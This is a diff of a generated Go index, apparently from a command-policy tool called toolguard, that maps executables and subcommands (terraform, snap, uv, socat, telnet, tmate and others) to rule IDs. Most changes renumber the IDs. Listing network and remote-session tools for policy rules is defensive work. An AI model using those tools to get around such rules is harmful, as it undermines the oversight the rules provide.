 	{name: "rustup", grammar: []uint32{0x240028}, generic: []uint32{0xd0029, 0x240028}, subs: []genSub{{"--version", []uint32{0x240029}}, {"check", []uint32{0x24002b}}, {"completions", []uint32{0x240029}}, {"component", []uint32{0x24002a, 0x24002b}}, {"default", []uint32{0x24002b}}, {"doc", []uint32{0x24002b}}, {"help", []uint32{0x240029}}, {"install", []uint32{0x24002b}}, {"man", []uint32{0x24002b}}, {"override", []uint32{0x24002a, 0x24002b}}, {"run", []uint32{0x24002b}}, {"self", []uint32{0x24002b}}, {"set", []uint32{0x24002b}}, {"show", []uint32{0x240029}}, {"target", []uint32{0x24002a, 0x24002b}}, {"toolchain", []uint32{0x24002a, 0x24002b}}, {"uninstall", []uint32{0x24002b}}, {"up", []uint32{0x24002b}}, {"update", []uint32{0x24002b}}, {"which", []uint32{0x240029}}}, ruleKnown: true},
 	{name: "rvim", grammar: []uint32{0x1d0024}, generic: []uint32{0x1d0024}, subs: nil, ruleKnown: false},
-	{name: "s3cmd", grammar: []uint32{0x130044}, generic: []uint32{0x10011, 0x1001a, 0x130044}, subs: []genSub{{"du", []uint32{0x130045}}, {"get", []uint32{0x130046}}, {"info", []uint32{0x130045}}, {"la", []uint32{0x130045}}, {"ls", []uint32{0x130045}}, {"put", []uint32{0x130046}}, {"sync", []uint32{0x130046}}}, ruleKnown: true},
+	{name: "s3cmd", grammar: []uint32{0x130049}, generic: []uint32{0x10011, 0x1001a, 0x130049}, subs: []genSub{{"du", []uint32{0x13004a}}, {"get", []uint32{0x13004b}}, {"info", []uint32{0x13004a}}, {"la", []uint32{0x13004a}}, {"ls", []uint32{0x13004a}}, {"put", []uint32{0x13004b}}, {"sync", []uint32{0x13004b}}}, ruleKnown: true},
 	{name: "sam", grammar: nil, generic: []uint32{0x10013}, subs: nil, ruleKnown: true},
 	{name: "sash", grammar: []uint32{0x1d003a}, generic: []uint32{0x1d003a}, subs: nil, ruleKnown: false},
 	{name: "scalac", grammar: []uint32{0x240042}, generic: []uint32{0xd0023, 0x240042}, subs: nil, ruleKnown: true},
@@ -2714,7 +2725,7 @@ var generatedExeIndex = []genExe{
 	{name: "sls", grammar: nil, generic: []uint32{0x10013}, subs: nil, ruleKnown: true},
 	{name: "slsh", grammar: []uint32{0x1d0060}, generic: []uint32{0x1d0060}, subs: nil, ruleKnown: false},
 	{name: "smbclient", grammar: []uint32{0x1d0061}, generic: []uint32{0x1d0061}, subs: nil, ruleKnown: false},
-	{name: "snap", grammar: []uint32{0x1f0019}, generic: []uint32{0xa000d, 0xa000e, 0xa001c, 0x1f0019}, subs: []genSub{{"abort", []uint32{0x1f001b}}, {"ack", []uint32{0x1f001b}}, {"alias", []uint32{0x1f001b}}, {"aliases", []uint32{0x1f001a}}, {"buy", []uint32{0x1f001b}}, {"change", []uint32{0x1f001a}}, {"changes", []uint32{0x1f001a}}, {"components", []uint32{0x1f001a}}, {"connect", []uint32{0x1f001b}}, {"connections", []uint32{0x1f001a}}, {"create-cohort", []uint32{0x1f001b}}, {"create-key", []uint32{0x1f001b}}, {"create-user", []uint32{0x1f001b}}, {"debug", []uint32{0x1f001a}}, {"disable", []uint32{0x1f001b}}, {"disconnect", []uint32{0x1f001b}}, {"download", []uint32{0x1f001b}}, {"enable", []uint32{0x1f001b}}, {"export-key", []uint32{0x1f001b}}, {"find", []uint32{0x1f001b}}, {"forget", []uint32{0x1f001b}}, {"get", []uint32{0x1f001b}}, {"info", []uint32{0x1f001b}}, {"install", []uint32{0x1f001b}}, {"interfaces", []uint32{0x1f001a}}, {"keys", []uint32{0x1f001b}}, {"known", []uint32{0x1f001a}}, {"list", []uint32{0x1f001a}}, {"login", []uint32{0x1f001b}}, {"logout", []uint32{0x1f001b}}, {"logs", []uint32{0x1f001a}}, {"model", []uint32{0x1f001a}}, {"okay", []uint32{0x1f001b}}, {"pack", []uint32{0x1f001b}}, {"prefer", []uint32{0x1f001b}}, {"prepare-image", []uint32{0x1f001b}}, {"quota", []uint32{0x1f001b}}, {"reboot", []uint32{0x1f001b}}, {"recovery", []uint32{0x1f001b}}, {"refresh", []uint32{0x1f001b}}, {"remove", []uint32{0x1f001b}}, {"remove-quota", []uint32{0x1f001b}}, {"remove-user", []uint32{0x1f001b}}, {"restart", []uint32{0x1f001b}}, {"restore", []uint32{0x1f001b}}, {"revert", []uint32{0x1f001b}}, {"routine", []uint32{0x1f001a}}, {"run", []uint32{0x1f001b}}, {"save", []uint32{0x1f001b}}, {"saved", []uint32{0x1f001a}}, {"search", []uint32{0x1f001b}}, {"services", []uint32{0x1f001a}}, {"set", []uint32{0x1f001b}}, {"set-quota", []uint32{0x1f001b}}, {"sign", []uint32{0x1f001b}}, {"sign-build", []uint32{0x1f001b}}, {"start", []uint32{0x1f001b}}, {"stop", []uint32{0x1f001b}}, {"switch", []uint32{0x1f001b}}, {"tasks", []uint32{0x1f001a}}, {"try", []uint32{0x1f001b}}, {"unalias", []uint32{0x1f001b}}, {"unset", []uint32{0x1f001b}}, {"validate", []uint32{0x1f001a}}, {"version", []uint32{0x1f001a}}, {"wait", []uint32{0x1f001b}}, {"warnings", []uint32{0x1f001a}}, {"watch", []uint32{0x1f001b}}, {"whoami", []uint32{0x1f001b}}}, ruleKnown: true},
+	{name: "snap", grammar: []uint32{0x1f001a}, generic: []uint32{0xa000d, 0xa000e, 0xa001c, 0x1f001a}, subs: []genSub{{"abort", []uint32{0x1f001c}}, {"ack", []uint32{0x1f001c}}, {"alias", []uint32{0x1f001c}}, {"aliases", []uint32{0x1f001b}}, {"buy", []uint32{0x1f001c}}, {"change", []uint32{0x1f001b}}, {"changes", []uint32{0x1f001b}}, {"components", []uint32{0x1f001b}}, {"connect", []uint32{0x1f001c}}, {"connections", []uint32{0x1f001b}}, {"create-cohort", []uint32{0x1f001c}}, {"create-key", []uint32{0x1f001c}}, {"create-user", []uint32{0x1f001c}}, {"debug", []uint32{0x1f001b}}, {"disable", []uint32{0x1f001c}}, {"disconnect", []uint32{0x1f001c}}, {"download", []uint32{0x1f001c}}, {"enable", []uint32{0x1f001c}}, {"export-key", []uint32{0x1f001c}}, {"find", []uint32{0x1f001c}}, {"forget", []uint32{0x1f001c}}, {"get", []uint32{0x1f001c}}, {"info", []uint32{0x1f001c}}, {"install", []uint32{0x1f001c}}, {"interfaces", []uint32{0x1f001b}}, {"keys", []uint32{0x1f001c}}, {"known", []uint32{0x1f001b}}, {"list", []uint32{0x1f001b}}, {"login", []uint32{0x1f001c}}, {"logout", []uint32{0x1f001c}}, {"logs", []uint32{0x1f001b}}, {"model", []uint32{0x1f001b}}, {"okay", []uint32{0x1f001c}}, {"pack", []uint32{0x1f001c}}, {"prefer", []uint32{0x1f001c}}, {"prepare-image", []uint32{0x1f001c}}, {"quota", []uint32{0x1f001c}}, {"reboot", []uint32{0x1f001c}}, {"recovery", []uint32{0x1f001c}}, {"refresh", []uint32{0x1f001c}}, {"remove", []uint32{0x1f001c}}, {"remove-quota", []uint32{0x1f001c}}, {"remove-user", []uint32{0x1f001c}}, {"restart", []uint32{0x1f001c}}, {"restore", []uint32{0x1f001c}}, {"revert", []uint32{0x1f001c}}, {"routine", []uint32{0x1f001b}}, {"run", []uint32{0x1f001c}}, {"save", []uint32{0x1f001c}}, {"saved", []uint32{0x1f001b}}, {"search", []uint32{0x1f001c}}, {"services", []uint32{0x1f001b}}, {"set", []uint32{0x1f001c}}, {"set-quota", []uint32{0x1f001c}}, {"sign", []uint32{0x1f001c}}, {"sign-build", []uint32{0x1f001c}}, {"start", []uint32{0x1f001c}}, {"stop", []uint32{0x1f001c}}, {"switch", []uint32{0x1f001c}}, {"tasks", []uint32{0x1f001b}}, {"try", []uint32{0x1f001c}}, {"unalias", []uint32{0x1f001c}}, {"unset", []uint32{0x1f001c}}, {"validate", []uint32{0x1f001b}}, {"version", []uint32{0x1f001b}}, {"wait", []uint32{0x1f001c}}, {"warnings", []uint32{0x1f001b}}, {"watch", []uint32{0x1f001c}}, {"whoami", []uint32{0x1f001c}}}, ruleKnown: true},
 	{name: "socat", grammar: []uint32{0x1e0000, 0x1e0013}, generic: []uint32{0xb0011, 0xb0014, 0xe000a, 0xe000b, 0x1e0013}, subs: nil, ruleKnown: true},
 	{name: "socket", grammar: []uint32{0x1d0062}, generic: []uint32{0x1d0062}, subs: nil, ruleKnown: false},
 	{name: "soelim", grammar: []uint32{0x1d0020}, generic: []uint32{0x1d0020}, subs: nil, ruleKnown: false},
@@ -2770,13 +2781,13 @@ var generatedExeIndex = []genExe{
 	{name: "tcpdump", grammar: []uint32{0x1d006f}, generic: []uint32{0x1d006f}, subs: nil, ruleKnown: false},
 	{name: "tcsh", grammar: []uint32{0x1d003b}, generic: []uint32{0xb0009, 0xb000a, 0x1d003b}, subs: nil, ruleKnown: true},
 	{name: "tdbtool", grammar: []uint32{0x1d0070}, generic: []uint32{0x1d0070}, subs: nil, ruleKnown: false},
-	{name: "tea", grammar: []uint32{0x1a001c}, generic: []uint32{0x1a001c}, subs: []genSub{{"action", []uint32{0x1a001d}}, {"actions", []uint32{0x1a001d}}, {"admin", []uint32{0x1a001d}}, {"alias", []uint32{0x5000f}}, {"api", []uint32{0x5000f}}, {"attestation", []uint32{0x5000f}}, {"auth", []uint32{0x5000f}}, {"branch", []uint32{0x1a001d, 0x1a001e, 0x1a001f}}, {"branches", []uint32{0x1a001d, 0x1a001e, 0x1a001f}}, {"browse", []uint32{0x5000f}}, {"c", []uint32{0x1a001d, 0x1a001f}}, {"cache", []uint32{0x5000f}}, {"ci", []uint32{0x5000f}}, {"clone", []uint32{0x1a001d}}, {"codespace", []uint32{0x5000f}}, {"comment", []uint32{0x1a001d, 0x1a001f}}, {"config", []uint32{0x5000f}}, {"environment", []uint32{0x5000f}}, {"extension", []uint32{0x5000f}}, {"gist", []uint32{0x5000f, 0x50012}}, {"gpg-key", []uint32{0x5000f}}, {"i", []uint32{0x1a001d, 0x1a001e, 0x1a001f}}, {"issue", []uint32{0x5000f, 0x50012, 0x1a001d, 0x1a001e, 0x1a001f}}, {"issues", []uint32{0x1a001d, 0x1a001e, 0x1a001f}}, {"job", []uint32{0x5000f}}, {"label", []uint32{0x5000f, 0x50012, 0x1a001d, 0x1a001e, 0x1a001f}}, {"labels", []uint32{0x1a001d, 0x1a001e, 0x1a001f}}, {"login", []uint32{0x1a001d}}, {"logins", []uint32{0x1a001d}}, {"logout", []uint32{0x1a001d}}, {"milestone", []uint32{0x1a001d, 0x1a001e, 0x1a001f}}, {"milestones", []uint32{0x1a001d, 0x1a001e, 0x1a001f}}, {"mr", []uint32{0x5000f, 0x50012}}, {"ms", []uint32{0x1a001d, 0x1a001e, 0x1a001f}}, {"n", []uint32{0x1a001d, 0x1a001e}}, {"notification", []uint32{0x1a001d, 0x1a001e}}, {"notifications", []uint32{0x1a001d, 0x1a001e}}, {"o", []uint32{0x1a001d}}, {"open", []uint32{0x1a001d}}, {"org", []uint32{0x5000f, 0x1a001d, 0x1a001e, 0x1a001f}}, {"organization", []uint32{0x1a001d, 0x1a001e, 0x1a001f}}, {"organizations", []uint32{0x1a001d, 0x1a001e, 0x1a001f}}, {"pipeline", []uint32{0x5000f}}, {"pr", []uint32{0x5000f, 0x50012, 0x1a001d, 0x1a001e, 0x1a001f}}, {"project", []uint32{0x5000f}}, {"pull", []uint32{0x1a001d, 0x1a001e, 0x1a001f}}, {"pulls", []uint32{0x1a001d, 0x1a001e, 0x1a001f}}, {"r", []uint32{0x1a001d, 0x1a001e, 0x1a001f}}, {"release", []uint32{0x5000f, 0x50012, 0x1a001d, 0x1a001e, 0x1a001f}}, {"releases", []uint32{0x1a001d, 0x1a001e, 0x1a001f}}, {"repo", []uint32{0x50004, 0x5000f, 0x50012, 0x1a001d, 0x1a001e, 0x1a001f}}, {"repos", []uint32{0x1a001d, 0x1a001e, 0x1a001f}}, {"ruleset", []uint32{0x5000f}}, {"run", []uint32{0x5000f}}, {"search", []uint32{0x5000f}}, {"secret", []uint32{0x5000f}}, {"snippet", []uint32{0x5000f}}, {"ssh-key", []uint32{0x5000f}}, {"status", []uint32{0x5000f}}, {"t", []uint32{0x1a001d, 0x1a001e, 0x1a001f}}, {"time", []uint32{0x1a001d, 0x1a001e, 0x1a001f}}, {"times", []uint32{0x1a001d, 0x1a001e, 0x1a001f}}, {"variable", []uint32{0x5000f}}, {"webhook", []uint32{0x1a001d, 0x1a001e, 0x1a001f}}, {"webhooks", []uint32{0x1a001d, 0x1a001e, 0x1a001f}}, {"whoami", []uint32{0x1a001d}}, {"workflow", []uint32{0x5000f}}}, ruleKnown: true},
+	{name: "tea", grammar: []uint32{0x1a001d}, generic: []uint32{0x1a001d}, subs: []genSub{{"action", []uint32{0x1a001e}}, {"actions", []uint32{0x1a001e}}, {"admin", []uint32{0x1a001e}}, {"alias", []uint32{0x5000f}}, {"api", []uint32{0x5000f}}, {"attestation", []uint32{0x5000f}}, {"auth", []uint32{0x5000f}}, {"branch", []uint32{0x1a001e, 0x1a001f, 0x1a0020}}, {"branches", []uint32{0x1a001e, 0x1a001f, 0x1a0020}}, {"browse", []uint32{0x5000f}}, {"c", []uint32{0x1a001e, 0x1a0020}}, {"cache", []uint32{0x5000f}}, {"ci", []uint32{0x5000f}}, {"clone", []uint32{0x1a001e}}, {"codespace", []uint32{0x5000f}}, {"comment", []uint32{0x1a001e, 0x1a0020}}, {"config", []uint32{0x5000f}}, {"environment", []uint32{0x5000f}}, {"extension", []uint32{0x5000f}}, {"gist", []uint32{0x5000f, 0x50012}}, {"gpg-key", []uint32{0x5000f}}, {"i", []uint32{0x1a001e, 0x1a001f, 0x1a0020}}, {"issue", []uint32{0x5000f, 0x50012, 0x1a001e, 0x1a001f, 0x1a0020}}, {"issues", []uint32{0x1a001e, 0x1a001f, 0x1a0020}}, {"job", []uint32{0x5000f}}, {"label", []uint32{0x5000f, 0x50012, 0x1a001e, 0x1a001f, 0x1a0020}}, {"labels", []uint32{0x1a001e, 0x1a001f, 0x1a0020}}, {"login", []uint32{0x1a001e}}, {"logins", []uint32{0x1a001e}}, {"logout", []uint32{0x1a001e}}, {"milestone", []uint32{0x1a001e, 0x1a001f, 0x1a0020}}, {"milestones", []uint32{0x1a001e, 0x1a001f, 0x1a0020}}, {"mr", []uint32{0x5000f, 0x50012}}, {"ms", []uint32{0x1a001e, 0x1a001f, 0x1a0020}}, {"n", []uint32{0x1a001e, 0x1a001f}}, {"notification", []uint32{0x1a001e, 0x1a001f}}, {"notifications", []uint32{0x1a001e, 0x1a001f}}, {"o", []uint32{0x1a001e}}, {"open", []uint32{0x1a001e}}, {"org", []uint32{0x5000f, 0x1a001e, 0x1a001f, 0x1a0020}}, {"organization", []uint32{0x1a001e, 0x1a001f, 0x1a0020}}, {"organizations", []uint32{0x1a001e, 0x1a001f, 0x1a0020}}, {"pipeline", []uint32{0x5000f}}, {"pr", []uint32{0x5000f, 0x50012, 0x1a001e, 0x1a001f, 0x1a0020}}, {"project", []uint32{0x5000f}}, {"pull", []uint32{0x1a001e, 0x1a001f, 0x1a0020}}, {"pulls", []uint32{0x1a001e, 0x1a001f, 0x1a0020}}, {"r", []uint32{0x1a001e, 0x1a001f, 0x1a0020}}, {"release", []uint32{0x5000f, 0x50012, 0x1a001e, 0x1a001f, 0x1a0020}}, {"releases", []uint32{0x1a001e, 0x1a001f, 0x1a0020}}, {"repo", []uint32{0x50004, 0x5000f, 0x50012, 0x1a001e, 0x1a001f, 0x1a0020}}, {"repos", []uint32{0x1a001e, 0x1a001f, 0x1a0020}}, {"ruleset", []uint32{0x5000f}}, {"run", []uint32{0x5000f}}, {"search", []uint32{0x5000f}}, {"secret", []uint32{0x5000f}}, {"snippet", []uint32{0x5000f}}, {"ssh-key", []uint32{0x5000f}}, {"status", []uint32{0x5000f}}, {"t", []uint32{0x1a001e, 0x1a001f, 0x1a0020}}, {"time", []uint32{0x1a001e, 0x1a001f, 0x1a0020}}, {"times", []uint32{0x1a001e, 0x1a001f, 0x1a0020}}, {"variable", []uint32{0x5000f}}, {"webhook", []uint32{0x1a001e, 0x1a001f, 0x1a0020}}, {"webhooks", []uint32{0x1a001e, 0x1a001f, 0x1a0020}}, {"whoami", []uint32{0x1a001e}}, {"workflow", []uint32{0x5000f}}}, ruleKnown: true},
 	{name: "tee", grammar: []uint32{0xd0009, 0x150053}, generic: []uint32{0x40025, 0x40031, 0x4003a, 0xd0021, 0xd002a, 0x150053}, subs: nil, ruleKnown: true},
 	{name: "teleconsole", grammar: nil, generic: []uint32{0xb001d}, subs: nil, ruleKnown: true},
 	{name: "telinit", grammar: nil, generic: []uint32{0x100016}, subs: nil, ruleKnown: true},
 	{name: "telnet", grammar: []uint32{0x1e0014}, generic: []uint32{0xb0011, 0xe000a, 0xe000b, 0xe001e, 0x1e0014}, subs: nil, ruleKnown: true},
-	{name: "terraform", grammar: []uint32{0x80000, 0x130075}, generic: []uint32{0x80006, 0x80007, 0x80008, 0x80013, 0x130075}, subs: []genSub{{"apply", []uint32{0x80014, 0x130079}}, {"console", []uint32{0x130079}}, {"destroy", []uint32{0x130079}}, {"fmt", []uint32{0x130076}}, {"force-unlock", []uint32{0x8000b, 0x130085}}, {"get", []uint32{0x130080}}, {"import", []uint32{0x80014, 0x130079}}, {"init", []uint32{0x80014, 0x130080}}, {"login", []uint32{0x80014, 0x130085}}, {"logout", []uint32{0x80014, 0x130085}}, {"metadata", []uint32{0x130086}}, {"modules", []uint32{0x130086}}, {"output", []uint32{0x13007b}}, {"plan", []uint32{0x130078}}, {"providers", []uint32{0x130081, 0x130082}}, {"refresh", []uint32{0x80014, 0x130079}}, {"show", []uint32{0x13007a}}, {"state", []uint32{0x80009, 0x13007c, 0x13007d, 0x13007e}}, {"taint", []uint32{0x8000b, 0x130085}}, {"test", []uint32{0x130079}}, {"untaint", []uint32{0x8000b, 0x130085}}, {"validate", []uint32{0x130077}}, {"version", []uint32{0x13007f}}, {"workspace", []uint32{0x8000a, 0x130083, 0x130084}}}, ruleKnown: true},
-	{name: "terragrunt", grammar: []uint32{0x80002, 0x130087}, generic: []uint32{0x80006, 0x80007, 0x80008, 0x80013, 0x130087}, subs: []genSub{{"apply", []uint32{0x80014}}, {"import", []uint32{0x80014}}, {"init", []uint32{0x80014}}, {"login", []uint32{0x80014}}, {"logout", []uint32{0x80014}}, {"refresh", []uint32{0x80014}}, {"state", []uint32{0x80009}}}, ruleKnown: true},
+	{name: "terraform", grammar: []uint32{0x80000, 0x13007a}, generic: []uint32{0x80006, 0x80007, 0x80008, 0x80013, 0x13007a}, subs: []genSub{{"apply", []uint32{0x80014, 0x13007e}}, {"console", []uint32{0x13007e}}, {"destroy", []uint32{0x13007e}}, {"fmt", []uint32{0x13007b}}, {"force-unlock", []uint32{0x8000b, 0x13008b}}, {"get", []uint32{0x130086}}, {"import", []uint32{0x80014, 0x13007e}}, {"init", []uint32{0x80014, 0x130086}}, {"login", []uint32{0x80014, 0x13008b}}, {"logout", []uint32{0x80014, 0x13008b}}, {"metadata", []uint32{0x13008c}}, {"modules", []uint32{0x13008c}}, {"output", []uint32{0x130080}}, {"plan", []uint32{0x13007d}}, {"providers", []uint32{0x130087, 0x130088}}, {"refresh", []uint32{0x80014, 0x13007e}}, {"show", []uint32{0x13007f}}, {"state", []uint32{0x80009, 0x130081, 0x130082, 0x130083, 0x130084}}, {"taint", []uint32{0x8000b, 0x13008b}}, {"test", []uint32{0x13007e}}, {"untaint", []uint32{0x8000b, 0x13008b}}, {"validate", []uint32{0x13007c}}, {"version", []uint32{0x130085}}, {"workspace", []uint32{0x8000a, 0x130089, 0x13008a}}}, ruleKnown: true},
+	{name: "terragrunt", grammar: []uint32{0x80002, 0x13008d}, generic: []uint32{0x80006, 0x80007, 0x80008, 0x80013, 0x13008d}, subs: []genSub{{"apply", []uint32{0x80014}}, {"import", []uint32{0x80014}}, {"init", []uint32{0x80014}}, {"login", []uint32{0x80014}}, {"logout", []uint32{0x80014}}, {"refresh", []uint32{0x80014}}, {"state", []uint32{0x80009}}}, ruleKnown: true},
 	{name: "test", grammar: []uint32{0x150002, 0x150029}, generic: []uint32{0xd0016, 0x150029}, subs: nil, ruleKnown: true},
 	{name: "tex", grammar: []uint32{0x1d0001, 0x1d002b}, generic: []uint32{0x1d002b}, subs: nil, ruleKnown: false},
 	{name: "tftp", grammar: []uint32{0x1e0008}, generic: []uint32{0x1e0008}, subs: nil, ruleKnown: false},
@@ -2788,7 +2799,7 @@ var generatedExeIndex = []genExe{
 	{name: "tldr", grammar: []uint32{0x200008}, generic: []uint32{0xd0016, 0x200008}, subs: nil, ruleKnown: true},
 	{name: "tmate", grammar: []uint32{0x1d0073}, generic: []uint32{0xb001d, 0x1d0073}, subs: nil, ruleKnown: true},
 	{name: "tmux", grammar: []uint32{0x220006, 0x22003f}, generic: []uint32{0xd0016, 0x22003f}, subs: []genSub{{"capture-pane", []uint32{0x220041}}, {"capturep", []uint32{0x220041}}, {"has", []uint32{0x220040}}, {"has-session", []uint32{0x220040}}, {"info", []uint32{0x220040}}, {"list-buffers", []uint32{0x220040}}, {"list-clients", []uint32{0x220040}}, {"list-commands", []uint32{0x220040}}, {"list-keys", []uint32{0x220040}}, {"list-panes", []uint32{0x220040}}, {"list-sessions", []uint32{0x220040}}, {"list-windows", []uint32{0x220040}}, {"ls", []uint32{0x220040}}, {"lsb", []uint32{0x220040}}, {"lsc", []uint32{0x220040}}, {"lscm", []uint32{0x220040}}, {"lsk", []uint32{0x220040}}, {"lsp", []uint32{0x220040}}, {"lsw", []uint32{0x220040}}, {"server-info", []uint32{0x220040}}, {"show", []uint32{0x220040}}, {"show-buffer", []uint32{0x220040}}, {"show-environment", []uint32{0x220042}}, {"show-messages", []uint32{0x220040}}, {"show-options", []uint32{0x220040}}, {"show-window-options", []uint32{0x220040}}, {"showb", []uint32{0x220040}}, {"showenv", []uint32{0x220042}}, {"showmsgs", []uint32{0x220040}}, {"showw", []uint32{0x220040}}}, ruleKnown: true},
-	{name: "tofu", grammar: []uint32{0x80001, 0x130075}, generic: []uint32{0x80006, 0x80007, 0x80008, 0x80013, 0x130075}, subs: []genSub{{"apply", []uint32{0x80014, 0x130079}}, {"console", []uint32{0x130079}}, {"destroy", []uint32{0x130079}}, {"fmt", []uint32{0x130076}}, {"force-unlock", []uint32{0x8000b, 0x130085}}, {"get", []uint32{0x130080}}, {"import", []uint32{0x80014, 0x130079}}, {"init", []uint32{0x80014, 0x130080}}, {"login", []uint32{0x80014, 0x130085}}, {"logout", []uint32{0x80014, 0x130085}}, {"metadata", []uint32{0x130086}}, {"modules", []uint32{0x130086}}, {"output", []uint32{0x13007b}}, {"plan", []uint32{0x130078}}, {"providers", []uint32{0x130081, 0x130082}}, {"refresh", []uint32{0x80014, 0x130079}}, {"show", []uint32{0x13007a}}, {"state", []uint32{0x80009, 0x13007c, 0x13007d, 0x13007e}}, {"taint", []uint32{0x8000b, 0x130085}}, {"test", []uint32{0x130079}}, {"untaint", []uint32{0x8000b, 0x130085}}, {"validate", []uint32{0x130077}}, {"version", []uint32{0x13007f}}, {"workspace", []uint32{0x8000a, 0x130083, 0x130084}}}, ruleKnown: true},
+	{name: "tofu", grammar: []uint32{0x80001, 0x13007a}, generic: []uint32{0x80006, 0x80007, 0x80008, 0x80013, 0x13007a}, subs: []genSub{{"apply", []uint32{0x80014, 0x13007e}}, {"console", []uint32{0x13007e}}, {"destroy", []uint32{0x13007e}}, {"fmt", []uint32{0x13007b}}, {"force-unlock", []uint32{0x8000b, 0x13008b}}, {"get", []uint32{0x130086}}, {"import", []uint32{0x80014, 0x13007e}}, {"init", []uint32{0x80014, 0x130086}}, {"login", []uint32{0x80014, 0x13008b}}, {"logout", []uint32{0x80014, 0x13008b}}, {"metadata", []uint32{0x13008c}}, {"modules", []uint32{0x13008c}}, {"output", []uint32{0x130080}}, {"plan", []uint32{0x13007d}}, {"providers", []uint32{0x130087, 0x130088}}, {"refresh", []uint32{0x80014, 0x13007e}}, {"show", []uint32{0x13007f}}, {"state", []uint32{0x80009, 0x130081, 0x130082, 0x130083, 0x130084}}, {"taint", []uint32{0x8000b, 0x13008b}}, {"test", []uint32{0x13007e}}, {"untaint", []uint32{0x8000b, 0x13008b}}, {"validate", []uint32{0x13007c}}, {"version", []uint32{0x130085}}, {"workspace", []uint32{0x8000a, 0x130089, 0x13008a}}}, ruleKnown: true},
 	{name: "tokei", grammar: []uint32{0x18000c}, generic: []uint32{0xd0016, 0x18000c}, subs: nil, ruleKnown: true},
 	{name: "tomlq", grammar: []uint32{0x230015}, generic: []uint32{0xd0016, 0x230015}, subs: nil, ruleKnown: true},
 	{name: "toolguard", grammar: nil, generic: nil, subs: []genSub{{"check", []uint32{0x250002}}, {"exec", []uint32{0x250000}}, {"explain", []uint32{0x250002}}, {"mcp", []uint32{0x250001}}, {"policy", []uint32{0x250004, 0x250005}}, {"rules", []uint32{0x250003}}, {"version", []uint32{0x250003}}}, ruleKnown: false},
@@ -2843,7 +2854,7 @@ var generatedExeIndex = []genExe{
 	{name: "users", grammar: []uint32{0x150035}, generic: []uint32{0x150035}, subs: nil, ruleKnown: false},
 	{name: "uuencode", grammar: []uint32{0x1d007b}, generic: []uint32{0x1d007b}, subs: nil, ruleKnown: false},
 	{name: "uuidgen", grammar: nil, generic: []uint32{0xd0016}, subs: nil, ruleKnown: true},
-	{name: "uv", grammar: []uint32{0x1f0036}, generic: []uint32{0xa0005, 0x1f0036}, subs: []genSub{{"--version", []uint32{0xa0019}}, {"add", []uint32{0xa0009, 0xa001a, 0x1f003a}}, {"auth", []uint32{0x1f003a}}, {"build", []uint32{0xa0019, 0x1f003a}}, {"cache", []uint32{0xa0019, 0x1f0038, 0x1f003a}}, {"check", []uint32{0xa0019}}, {"config", []uint32{0xa0019}}, {"create", []uint32{0xa001a}}, {"debug", []uint32{0xa0019}}, {"download", []uint32{0xa001a}}, {"env", []uint32{0xa0019}}, {"export", []uint32{0xa0019, 0x1f003a}}, {"format", []uint32{0x1f003a}}, {"freeze", []uint32{0xa0019}}, {"generate-shell-completion", []uint32{0x1f0039}}, {"help", []uint32{0xa0019, 0x1f0039}}, {"index", []uint32{0xa0019}}, {"info", []uint32{0xa0019}}, {"init", []uint32{0xa001a, 0x1f003a}}, {"inspect", []uint32{0xa0019}}, {"install", []uint32{0xa0009, 0xa001a}}, {"list", []uint32{0xa0019}}, {"lock", []uint32{0xa0019, 0x1f003a}}, {"new", []uint32{0xa001a}}, {"pip", []uint32{0xa000a, 0xa001a, 0x1f0037, 0x1f003a}}, {"publish", []uint32{0x1f003a}}, {"python", []uint32{0x1f0038, 0x1f003a}}, {"remove", []uint32{0xa001a, 0x1f003a}}, {"run", []uint32{0xa0019, 0x1f003b}}, {"search", []uint32{0xa0019}}, {"self", []uint32{0x1f003a}}, {"shell", []uint32{0xa0019}}, {"show", []uint32{0xa0019}}, {"sync", []uint32{0xa0019, 0x1f003a}}, {"tool", []uint32{0xa000a, 0x1f0038, 0x1f003a}}, {"tree", []uint32{0xa0019, 0x1f003a}}, {"uninstall", []uint32{0xa001a}}, {"update", []uint32{0xa001a}}, {"upgrade", []uint32{0xa001a}}, {"venv", []uint32{0xa0019, 0x1f003a}}, {"version", []uint32{0xa0019, 0x1f0039}}, {"wheel", []uint32{0xa001a}}}, ruleKnown: true},
+	{name: "uv", grammar: []uint32{0x1f0038}, generic: []uint32{0xa0005, 0x1f0038}, subs: []genSub{{"--version", []uint32{0xa0019}}, {"add", []uint32{0xa0009, 0xa001a, 0x1f003c}}, {"auth", []uint32{0x1f003c}}, {"build", []uint32{0xa0019, 0x1f003c}}, {"cache", []uint32{0xa0019, 0x1f003a, 0x1f003c}}, {"check", []uint32{0xa0019}}, {"config", []uint32{0xa0019}}, {"create", []uint32{0xa001a}}, {"debug", []uint32{0xa0019}}, {"download", []uint32{0xa001a}}, {"env", []uint32{0xa0019}}, {"export", []uint32{0xa0019, 0x1f003c}}, {"format", []uint32{0x1f003c}}, {"freeze", []uint32{0xa0019}}, {"generate-shell-completion", []uint32{0x1f003b}}, {"help", []uint32{0xa0019, 0x1f003b}}, {"index", []uint32{0xa0019}}, {"info", []uint32{0xa0019}}, {"init", []uint32{0xa001a, 0x1f003c}}, {"inspect", []uint32{0xa0019}}, {"install", []uint32{0xa0009, 0xa001a}}, {"list", []uint32{0xa0019}}, {"lock", []uint32{0xa0019, 0x1f003c}}, {"new", []uint32{0xa001a}}, {"pip", []uint32{0xa000a, 0xa001a, 0x1f0039, 0x1f003c}}, {"publish", []uint32{0x1f003c}}, {"python", []uint32{0x1f003a, 0x1f003c}}, {"remove", []uint32{0xa001a, 0x1f003c}}, {"run", []uint32{0xa0019, 0x1f003d}}, {"search", []uint32{0xa0019}}, {"self", []uint32{0x1f003c}}, {"shell", []uint32{0xa0019}}, {"show", []uint32{0xa0019}}, {"sync", []uint32{0xa0019, 0x1f003c}}, {"tool", []uint32{0xa000a, 0x1f003a, 0x1f003c}}, {"tree", []uint32{0xa0019, 0x1f003c}}, {"uninstall", []uint32{0xa001a}}, {"update", []uint32{0xa001a}}, {"upgrade", []uint32{0xa001a}}, {"venv", []uint32{0xa0019, 0x1f003c}}, {"version", []uint32{0xa0019, 0x1f003b}}, {"wheel", []uint32{0xa001a}}}, ruleKnown: true},
 	{name: "vagrant", grammar: []uint32{0x1d007c}, generic: []uint32{0x80012, 0x1d007c}, subs: nil, ruleKnown: true},
 	{name: "vale", grammar: []uint32{0x240059}, generic: []uint32{0xd0025, 0x240059}, subs: []genSub{{"sync", []uint32{0x24005a}}}, ruleKnown: true},
 	{name: "valgrind", grammar: []uint32{0x1d007d}, generic: []uint32{0x1d007d}, subs: nil, ruleKnown: false},
